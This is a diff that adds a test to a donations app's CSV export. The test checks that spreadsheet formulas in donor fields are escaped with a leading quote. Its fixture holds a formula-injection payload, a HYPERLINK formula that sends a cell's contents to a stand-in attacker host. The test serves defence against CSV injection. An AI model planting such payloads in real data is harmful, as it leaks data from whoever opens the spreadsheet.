@@ -180,6 +180,22 @@ def test_donations_export_as_csv(admin_client):
     assert "amount_minor" not in header and "paid" not in rows[1]
 
 
+def test_donations_export_never_writes_a_cell_that_runs(admin_client):
+    # A donor's name comes from the payment page: a formula there must stay text.
+    DonationFactory(
+        donor_name='=HYPERLINK("https://evil.example/?"&B2,"x")',
+        donor_email="@donor@example.org",
+        status=Donation.Status.PAID,
+    )
+    response = admin_client.get(reverse("donation:index"), {"export": "csv"})
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(body)))
+    row = dict(zip(header, row, strict=True))
+    assert row["Donor name"] == '\'=HYPERLINK("https://evil.example/?"&B2,"x")'
+    assert row["Donor email"] == "'@donor@example.org"
+    assert row["Amount"][0].isdigit()  # numbers are left as numbers
+
+
 def test_abandoned_checkouts_are_hidden_until_asked_for(admin_client):
     from datetime import timedelta
 
